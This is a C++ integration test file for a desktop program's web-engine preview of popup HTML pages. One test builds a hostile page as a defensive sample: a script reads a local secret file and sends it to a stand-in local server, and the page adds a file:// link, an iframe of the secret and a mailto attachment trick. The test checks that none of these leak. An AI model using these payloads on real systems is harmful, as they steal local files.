// The preview in the real program, started as a user starts it: the program
// and its preview module are copied into a fresh program folder, a set is put
// into its Popleaf folder, and a driver preloaded into the program and its
// preview process (preview_driver.cpp) opens the set, presses プレビュー, looks
// at the page and closes everything. The program loads the web engine itself, on the first
// preview, as it does for the user; a test that links the engine sets it up
// at start and hides what happens without OpenGL.

#include "reliability_support.h"

#include "core/generate/popup_page.h"
#include "ui/preview/preview_command.h"
#include "support/file_compare.h"
#include "support/user_folders.h"

#include <QCoreApplication>
#include <QDir>
#include <QFile>
#include <QProcess>
#include <QTcpServer>
#include <QTemporaryDir>

#include <gtest/gtest.h>

#include <functional>

#include <csignal>
#include <unistd.h>

using namespace zelmora;
using namespace zelmora::test;

namespace {

QString binFolder() { return QCoreApplication::applicationDirPath() + u'/'; }

// A popup page 1 as the program writes it (the last page of a one-page set),
// with the given body attribute and text.
QByteArray pageOne(const QString &body, const QString &text)
{
    QList<QByteArray> lines;
    for (const QString &line :
         {QStringLiteral("<html>"), QStringLiteral("<head>"), QStringLiteral("<style type=\"Text/css\"><!--"),
          QStringLiteral("span#param3{font-size:12pt;family:ＭＳゴシック;}"), QStringLiteral("--></style>"),
          QStringLiteral("<title>abc_1</title>"), QStringLiteral("<script language=\"JavaScript\"><!--"),
          QStringLiteral("function Check_E(){if((navigator.userAgent.indexOf(\"Mac\") > -1)){if(window.opener) self.close();}"),
          QStringLiteral("else {if(!window.opener.closed) self.close();}}"), QStringLiteral("// --></script>"),
          QStringLiteral("</head>"), QStringLiteral("<body ") + body + QStringLiteral(" onblur=\"Check_E()\">"),
          QStringLiteral("<table border=\"0\">"),
          QStringLiteral("<tr><td width=\"320\" height=\"120\" valign=\"top\">"),
          QStringLiteral("<span id=\"param3\">") + text + QStringLiteral("</span>"),
          QStringLiteral("</td></tr>"), QStringLiteral("<tr><td align=\"right\">"), QStringLiteral("<form>"),
          QStringLiteral("<input type=\"button\" value=\"閉じる\" onClick=\"Check_E()\">"),
          QStringLiteral("</form>"), QStringLiteral("</td></tr>"), QStringLiteral("</table>"),
          QStringLiteral("</body>"), QStringLiteral("</html>")})
        lines << sjis(line.toUtf8().constData());
    return crlfJoin(lines);
}

struct ProgramRun {
    QStringList report;
    int exitCode = -1;
    QProcess::ExitStatus exitStatus = QProcess::CrashExit;
    QString output;
};

// What every run sees before the preview and after it.
const QString kOpened = QStringLiteral("message: ポップリーフ [ abc_1.htm ] を読み込みました。");
const QString kEditor = QStringLiteral("editor: abc");
const QString kKept = QStringLiteral("after: abc|一行目\\n二行目");

struct ProcessCase {
    const char *name;
    // How the program is started: "offscreen" without a display, or "xvfb"
    // on a virtual X server of its own, with these variables added.
    const char *display;
    QStringList environment;
    // Changes to the fresh program folder before the run.
    std::function<void(const QString &folder)> prepare;
    QStringList report; // the driver's lines; a line ending in "*" matches by its start
};

void PrintTo(const ProcessCase &c, std::ostream *os) { *os << c.name; }

class WebEngineInTheProgram : public testing::TestWithParam<ProcessCase> {
protected:
    void SetUp() override
    {
        ASSERT_TRUE(dir.isValid());
        folder = dir.path() + u'/';
        for (const char *file : {"zelmora", "zelmora_preview.so"})
            ASSERT_TRUE(QFile::copy(binFolder() + QLatin1String(file), folder + QLatin1String(file))) << file;
        ASSERT_TRUE(QDir().mkpath(folder + QStringLiteral("Popleaf")));
        ASSERT_TRUE(QDir().mkpath(folder + QStringLiteral("TEMP")));
        writeFile(folder + QStringLiteral("Popleaf/abc_1.htm"),
                  pageOne(QStringLiteral("BgColor=\"#FF0000\""), QStringLiteral("一行目<BR>二行目")));
        // What others keep in the temporary folder: another program's file,
        // a second instance's preview page, a link to the user's file.
        writeFile(folder + QStringLiteral("TEMP/notes.txt"), "another program's file");
        writeFile(folder + QStringLiteral("TEMP/xyz_1.htm"), "a second instance's page");
        writeFile(folder + QStringLiteral("mine.txt"), "the user's file");
        ASSERT_TRUE(QFile::link(folder + QStringLiteral("mine.txt"), folder + QStringLiteral("TEMP/mine.htm")));
    }

    // The program gets no session bus, which it does not need: on an X server
    // without one it would start a bus daemon of its own that outlives it.
    // Its X server is started here and ends with the run, and so does every
    // process left in the run's own process group.
    ProgramRun run(const ProcessCase &c, const QStringList &driverEnvironment)
    {
        QTemporaryDir user;
        QProcessEnvironment env = userFoldersIn(user.path());
        env.insert(QStringLiteral("LD_PRELOAD"), binFolder() + QStringLiteral("preview_driver.so"));
        env.insert(QStringLiteral("ZELMORA_DRIVE_REPORT"), folder + QStringLiteral("report.txt"));
        env.insert(QStringLiteral("ZELMORA_DRIVE_OPEN"), QStringLiteral("abc_1.htm"));
        env.insert(QStringLiteral("QT_QPA_PLATFORM"), QStringLiteral("offscreen"));
        QProcess xvfb;
        if (QLatin1String(c.display) == QLatin1String("xvfb")) {
            xvfb.start(QStringLiteral("Xvfb"), {QStringLiteral("-displayfd"), QStringLiteral("1"), QStringLiteral("-screen"),
                                                QStringLiteral("0"), QStringLiteral("1280x1024x24"),
                                                QStringLiteral("-nolisten"), QStringLiteral("tcp")});
            EXPECT_TRUE(xvfb.waitForReadyRead(20000)) << "Xvfb did not start";
            env.insert(QStringLiteral("DISPLAY"), u':' + QString::fromLatin1(xvfb.readAllStandardOutput().trimmed()));
            env.insert(QStringLiteral("QT_QPA_PLATFORM"), QStringLiteral("xcb"));
        }
        for (const QString &pair : driverEnvironment + c.environment)
            env.insert(pair.section(u'=', 0, 0), pair.section(u'=', 1));
        QProcess program;
        program.setProcessEnvironment(env);
        program.setProcessChannelMode(QProcess::MergedChannels);
        program.setChildProcessModifier([] { ::setpgid(0, 0); });
        program.start(folder + QStringLiteral("zelmora"), QStringList{});
        const auto group = pid_t(program.processId());
        ProgramRun result;
        // A bound for a hung run only; the driver ends itself before it.
        const bool finished = program.waitForFinished(180000);
        if (group > 0)
            ::kill(-group, SIGKILL); // the engine's processes, or a whole hung run
        if (!finished)
            program.waitForFinished();
        xvfb.terminate();
        xvfb.waitForFinished();
        result.exitCode = program.exitCode();
        result.exitStatus = program.exitStatus();
        result.output = QString::fromLocal8Bit(program.readAll());
        QFile report(folder + QStringLiteral("report.txt"));
        if (report.open(QIODevice::ReadOnly))
            result.report = QString::fromUtf8(report.readAll()).split(u'\n', Qt::SkipEmptyParts);
        return result;
    }

    QTemporaryDir dir;
    QString folder;
};

testing::AssertionResult reportMatches(const QStringList &expected, const QStringList &actual)
{
    bool same = expected.size() == actual.size();
    for (qsizetype i = 0; same && i < expected.size(); ++i)
        same = expected[i].endsWith(u'*') ? actual[i].startsWith(expected[i].chopped(1)) : actual[i] == expected[i];
    if (same)
        return testing::AssertionSuccess();
    return testing::AssertionFailure() << "expected:\n  " << expected.join(QStringLiteral("\n  ")).toStdString()
                                       << "\nseen:\n  " << actual.join(QStringLiteral("\n  ")).toStdString();
}

} // namespace

// The program survives the preview, shows the page where it can, and keeps
// the editor; closing the preview leaves everything in TEMP it did not write.
TEST_P(WebEngineInTheProgram, previewShownOrRefused_programAndEditorKept)
{
    const ProcessCase &c = GetParam();
    if (c.prepare)
        c.prepare(folder);
    const auto before = folderTree(dir.path());

    const ProgramRun result = run(c, {QStringLiteral("ZELMORA_DRIVE_COLOUR=#ff0000")});

    EXPECT_EQ(result.exitStatus, QProcess::NormalExit) << result.output.toStdString();
    EXPECT_EQ(result.exitCode, 0) << result.output.toStdString();
    QStringList expected = c.report; // on X11 the preview is transient for the main window
    if (QLatin1String(c.display) == QLatin1String("xvfb"))
        expected.replaceInStrings(QStringLiteral("preview: shown"), QStringLiteral("preview: shown over the main window"));
    EXPECT_TRUE(reportMatches(expected, result.report)) << result.output.toStdString();
    QStringList changed = changedPaths(before, folderTree(dir.path()));
    changed.removeAll(QStringLiteral("report.txt"));
    changed.removeAll(QStringLiteral("Zelmora.1.lock")); // the window's draft lock, kept for the next run
    EXPECT_EQ(changed, QStringList{}) << "the preview left or removed files";
}

namespace {

const QStringList kPage{QStringLiteral("loaded: ok"), QStringLiteral("title: abc_1"), QStringLiteral("colour: #ff0000")};
// The main window takes no typing while the preview shows.
const QStringList kOpen = QStringList{kOpened, kEditor, QStringLiteral("preview: shown"), QStringLiteral("input: none")} + kPage;
const QStringList kShown = kOpen + QStringList{kKept};
const QString kAgain = QStringLiteral("preview: shown again by the same process");
QString failed(const char *reason) { return QStringLiteral("message: プレビューを表示できませんでした。\\n理由: ") + QString::fromUtf8(reason); }

} // namespace

INSTANTIATE_TEST_SUITE_P(
    Displays, WebEngineInTheProgram,
    testing::Values(
        ProcessCase{"offscreenWithoutADisplay", "offscreen", {}, {}, kShown},
        ProcessCase{"xcbWithoutGlIntegration", "xvfb", {QStringLiteral("QT_XCB_GL_INTEGRATION=none")}, {}, kShown},
        ProcessCase{"xcbWithoutAGlDriver", "xvfb",
                    {QStringLiteral("LIBGL_DRIVERS_PATH=/nonexistent"), QStringLiteral("GALLIUM_DRIVER=none")},
                    {}, kShown},
        ProcessCase{"xcbWithGl", "xvfb", {}, {}, kShown},
        ProcessCase{"roadsAndASecondPreviewInTheWarmProcess", "offscreen",
                    {QStringLiteral("ZELMORA_DRIVE_STEPS=frd,frd,bak,bak"),
                     QStringLiteral("ZELMORA_DRIVE_ROUNDS=button,escape,closebox")},
                    [](const QString &folder) { // a two-page set
                        for (int k : {1, 2}) {
                            PopupPage page{QStringLiteral("abc"), k, QStringLiteral(".htm"), k == 1};
                            page.body = QStringLiteral("BgColor=\"#FF0000\"");
                            page.text = k == 1 ? QStringLiteral("一行目<BR>二行目") : QStringLiteral("二ページ目");
                            ASSERT_FALSE(writePopupPage(folder + QStringLiteral("Popleaf/"), page));
                        }
                    },
                    QStringList{QStringLiteral("message: ポップリーフ [ abc_1.htm ] ～ [ abc_2.htm ] を読み込みました。")}
                        + kOpen.mid(1) + QStringList{QStringLiteral("step: abc_2 shows abc_2"), QStringLiteral("step: abc_2 shows abc_2"),
                                        QStringLiteral("step: abc_1 shows abc_1"), QStringLiteral("step: abc_1 shows abc_1"), kAgain}
                        + kPage + QStringList{kAgain} + kPage + QStringList{kKept}},
        ProcessCase{"previewProcessKilled", "xvfb", {QStringLiteral("ZELMORA_DRIVE_ROUNDS=kill")}, {},
                    kOpen + QStringList{failed("プレビューのプロセスが異常終了しました。"), kKept}},
        ProcessCase{"pageProcessCrashed", "offscreen", {QStringLiteral("ZELMORA_DRIVE_ROUNDS=crashpage")}, {},
                    kOpen + QStringList{failed("ページを表示するプロセスが異常終了しました。"), kKept}},
        ProcessCase{"previewProcessCannotStart", "offscreen", {QStringLiteral("ZELMORA_DRIVE_UNSTARTABLE=1")}, {},
                    {kOpened, kEditor, failed("プレビューのプロセスを起動できませんでした。\\n*"), kKept}},
        ProcessCase{"moduleCannotBeLoaded", "offscreen", {},
                    [](const QString &folder) {
                        writeFile(folder + QStringLiteral("zelmora_preview.so"), "not a library");
                    },
                    {kOpened, kEditor, failed("プレビュー機能を読み込めませんでした。\\n*"), kKept}},
        ProcessCase{"temporaryFolderIsALink", "offscreen", {},
                    [](const QString &folder) {
                        ASSERT_TRUE(QDir(folder).rename(QStringLiteral("TEMP"), QStringLiteral("elsewhere")));
                        ASSERT_TRUE(QFile::link(folder + QStringLiteral("elsewhere"), folder + QStringLiteral("TEMP")));
                    },
                    {kOpened, kEditor, QStringLiteral("message: プレビュー用の一時フォルダを使えません。\\n*"),
                     kKept}}),
    [](const testing::TestParamInfo<ProcessCase> &info) { return std::string(info.param.name); });

// A set on disk whose page text carries scripts, a refresh, remote and local
// loads and two links. Nothing runs, nothing is read or sent, only the link
// the user clicks reaches the system browser, and the background picture
// from ../Popleaf/ still shows.
TEST_F(WebEngineInTheProgram, hostileSet_nothingRunsOrLeaks_onlyTheClickedLinkLeaves)
{
    QTcpServer server; // stands in for the network: it must hear nothing
    ASSERT_TRUE(server.listen(QHostAddress::LocalHost));
    const QString net = QStringLiteral("http://127.0.0.1:%1").arg(server.serverPort());
    writeFile(folder + QStringLiteral("secret.txt"), "the user's secret");
    EXPECT_TRUE(markUnread(folder + QStringLiteral("secret.txt"))) << "this file system records no reads";
    writeFile(folder + QStringLiteral("Popleaf/x.js"),
              QStringLiteral("var r=new XMLHttpRequest();r.open('GET','../secret.txt',false);r.send();"
                             "location='%1/?d='+encodeURIComponent(r.responseText);window.open('%1/w');")
                  .arg(net)
                  .toUtf8());
    // A green picture: the background the page is drawn with when it loads.
    writeFile(folder + QStringLiteral("Popleaf/back.gif"),
              QByteArray::fromHex("47494638396101000100800000" "00ff00" "ffffff"
                                  "2c00000000010001000002024401003b"));
    const QString text =
        QStringLiteral("<script src=\"../Popleaf/x.js\"></script>"
                       "<a id=q href=\"https://example.invalid/auto\">a</a><script>q.click();document.title='ran';"
                       "location='%1/s'</script>"
                       "<meta http-equiv=\"refresh\" content=\"0;url=https://example.invalid/refresh\">"
                       "<img src=\"%1/img.gif\" width=4 height=4><link rel=stylesheet href=\"%1/s.css\">"
                       "<iframe src=\"../secret.txt\" width=4 height=4></iframe>"
                       "<iframe src=\"%1/frame\" width=4 height=4></iframe>"
                       "<a href=\"file://%2secret.txt\" style=\"position:absolute;left:0;top:0;width:160px;height:60px\">f</a>"
                       "<a href=\"https://example.invalid/clicked\" "
                       "style=\"position:absolute;left:160px;top:0;width:160px;height:60px\">c</a>"
                       "<a href=\"mailto:a@b?subject=hi&attach=%2secret.txt&attachment=file://%2secret.txt\" "
                       "style=\"position:absolute;left:0;top:60px;width:160px;height:40px\">m</a>")
            .arg(net, folder);
    writeFile(folder + QStringLiteral("Popleaf/abc_1.htm"), pageOne(QStringLiteral("BackGround=\"back.gif\""), text));

    // The https link, the mailto link, then the file link: anything the page
    // sent to the desktop by itself would come before the first URL, and the
    // refusal of the file link comes last.
    const ProgramRun result = run({"hostile", "offscreen", {}, {}, {}},
                           {QStringLiteral("ZELMORA_DRIVE_COLOUR=#00ff00"), QStringLiteral("ZELMORA_DRIVE_URLS=2"),
                            QStringLiteral("ZELMORA_DRIVE_MESSAGES=1"),
                            QStringLiteral("ZELMORA_DRIVE_CLICKS=240,30;80,80;80,30")});

    EXPECT_EQ(result.exitStatus, QProcess::NormalExit) << result.output.toStdString();
    EXPECT_EQ(result.exitCode, 0) << result.output.toStdString();
    EXPECT_TRUE(reportMatches({kOpened, kEditor, QStringLiteral("preview: shown"), QStringLiteral("input: none"), QStringLiteral("loaded: ok"),
                               QStringLiteral("title: abc_1"), QStringLiteral("colour: #00ff00"),
                               QStringLiteral("url: https://example.invalid/clicked"),
                               QStringLiteral("url: mailto:a@b?subject=hi"),
                               QStringLiteral("message: このリンクはプレビューから開けません。\\n開けるのは http、https と mailto "
                                              "のリンクだけです。\\nfile://") + folder + QStringLiteral("secret.txt"),
                               QStringLiteral("after: abc|*")},
                              result.report))
        << result.output.toStdString();
    EXPECT_FALSE(readSinceMarked(folder + QStringLiteral("secret.txt"))) << "the page read a file outside its folders";
    server.waitForNewConnection(0);
    EXPECT_FALSE(server.hasPendingConnections()) << "the page reached the network";
    EXPECT_EQ(entryNames(folder + QStringLiteral("TEMP")), (QStringList{"mine.htm", "notes.txt", "xyz_1.htm"}));
}
